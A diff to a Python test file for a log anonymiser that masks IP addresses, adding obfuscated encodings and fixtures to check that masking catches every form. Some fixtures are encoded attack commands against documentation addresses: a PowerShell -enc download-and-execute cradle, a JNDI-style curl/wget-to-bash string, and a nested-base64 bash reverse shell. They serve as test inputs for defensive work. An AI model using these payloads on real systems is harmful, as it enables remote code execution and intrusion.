@@ -6,6 +6,7 @@ Also a catalogue of forms through ``mask_text`` (fast, readable failures).
 
 from __future__ import annotations
 
+import base64
 import html
 import ipaddress
 import json
@@ -94,6 +95,33 @@ FORMS = [
         "ldap://x/Basic/Command/Base64/KGN1cmwgLXMgMjAzLjAuMTEzLjAvMjQ6NTg3NHx8d2dldCAtcSAtTy0gMjAzLjAuMTEzLjAvMjQpfGJhc2g=",
     ),
     ("/cb?d=dG8gMjAwMTpkYjg6YWJjZDoxMjo6NyBvaw==", "/cb?d=dG8gMjAwMTpkYjg6YWJjZDo6LzQ4IG9r"),
+    # found by review: base64 of UTF-16 (PowerShell's -enc) and UTF-32, of a short address, base64 in
+    # base64; the digits of other scripts; %uHHHH and \\uHHHH of look-alikes, surrogate pairs, \\U…
+    (
+        "/x?cmd=powershell%20-enc%20SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4ANwA3AC8AYQAnACkA",
+        "/x?cmd=powershell%20-enc%20SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AMAAvADIANAAvAGEAJwApAA==",
+    ),
+    (
+        "/x?d=AAAAZwAAAGUAAAB0AAAAIAAAADIAAAAwAAAAMwAAAC4AAAAwAAAALgAAADEAAAAxAAAAMwAAAC4AAAA3AAAANwAAACAAAABuAAAAbwAAAHc=",
+        "/x?d=AAAAZwAAAGUAAAB0AAAAIAAAADIAAAAwAAAAMwAAAC4AAAAwAAAALgAAADEAAAAxAAAAMwAAAC4AAAAwAAAALwAAADIAAAA0AAAAIAAAAG4AAABvAAAAdw==",
+    ),
+    ("/?ip=NS42LjcuODk=", "/?ip=NS42LjcuMC8yNA=="),
+    ("/?ip=MS4xLjEuMQ==", "/?ip=MS4xLjEuMC8yNA=="),
+    (
+        "/?p=WW1GemFDQXRhU0ErSmlBdlpHVjJMM1JqY0M4eU1ETXVNQzR4TVRNdU56Z3ZORFEwTkNBd1BpWXg=",
+        "/?p=WW1GemFDQXRhU0ErSmlBdlpHVjJMM1JqY0M4eU1ETXVNQzR4TVRNdU1DOHlOQzgwTkRRMElEQStKakU9",
+    ),
+    ("/?ip=٢٠٣.٠.١١٣.٧٩", "/?ip=203.0.113.0/24"),
+    ("/?ip=203.0.113.٧٧", "/?ip=203.0.113.0/24"),
+    ("/?ip=२०३.०.११३.७", "/?ip=203.0.113.0/24"),
+    ("/?ip=۲۰۳٫۰٫۱۱۳٫۷۷", "/?ip=203.0.113.0/24"),
+    ("/?ip=٢٠٠١:db8::٧٧", "/?ip=2001:db8::/48"),
+    ("/?ip=203%uFF0E0%uFF0E113%uFF0E85", "/?ip=203.0.113.0/24"),
+    ("/?ip=203\\uff0e0\\uff0e113\\uff0e81", "/?ip=203.0.113.0/24"),
+    ("/?ip=203\\u30020\\u3002113\\u300277", "/?ip=203.0.113.0/24"),
+    ("/?ip=\\uD835\\uDFD0\\uD835\\uDFCE\\uD835\\uDFD1.0.113.5", "/?ip=203.0.113.0/24"),
+    ("/?ip=\\U0001D7D0\\U0001D7CE\\U0001D7D1.0.113.5", "/?ip=203.0.113.0/24"),
+    ("/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu", "/?q=caf\\u00e9 %u4e2d ١٢٣ token=QWxhZGRpbjpvcGVu"),
     # reverse DNS names: the octets and nibbles reversed (the forward reading kept the host octet);
     # a zone no narrower than the mask stays (found by review)
     ("/p/77.113.0.203.in-addr.arpa", "/p/[203.0.113.0/24].in-addr.arpa"),
@@ -345,7 +373,20 @@ def encode(text: str, how: int) -> str:
         return text.replace(".", "%26period%3B").replace(":", "%26colon%3B")
     if how == 10:  # entities of fullwidth forms, and an entity split by a percent-escape
         return text.replace(".", "&#65294;").replace(":", "&#x3a%3B").replace("0", "&#4%38;")
+    if how == 11:  # IIS's %uHHHH and JSON's \uHHHH of a fullwidth stop, Arabic-Indic digits
+        return text.replace(".", "%uFF0E").replace(":", "\\uFF1A").translate(_ARABIC_INDIC)
+    if how == 12:  # base64 of UTF-16 text (PowerShell -enc)
+        return base64.b64encode(f"iwr http://{text}/a".encode("utf-16-le")).decode()
+    if how == 13:  # base64 of the address alone (short), and base64 in base64
+        return (
+            base64.b64encode(text.encode()).decode()
+            + "~"
+            + base64.b64encode(base64.b64encode(text.encode())).decode()
+        )
     return text
+
+
+_ARABIC_INDIC = str.maketrans("0123456789", "\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669")
 
 
 def needles(used: str, addr: IPAddress) -> set[str]:
@@ -366,7 +407,7 @@ def needles(used: str, addr: IPAddress) -> set[str]:
 
 
 FIELDS = ("client", "path", "query", "protocol", "referrer", "agent", "vhost", "rejected")
-form_choice = st.tuples(st.integers(0, 20), st.integers(0, 10), st.sampled_from(FIELDS))
+form_choice = st.tuples(st.integers(0, 20), st.integers(0, 13), st.sampled_from(FIELDS))
 
 
 def log_line(field: str, form: str, n: int) -> str:
@@ -430,7 +471,7 @@ def test_no_form_of_an_address_reaches_any_byte(cases: list[tuple[IPAddress, tup
     secret: set[str] = set()
     for n, (addr, (style, how, field)) in enumerate(cases):
         used = encode(render(addr, style), how)
-        if field in ("client", "vhost") and how in (2, 3, 5):
+        if field in ("client", "vhost") and how in (2, 3, 5, 11, 12, 13):
             used = render(addr, style)  # servers write these fields verbatim
         lines.append(log_line(field, used, n))
         secret |= needles(used, addr)
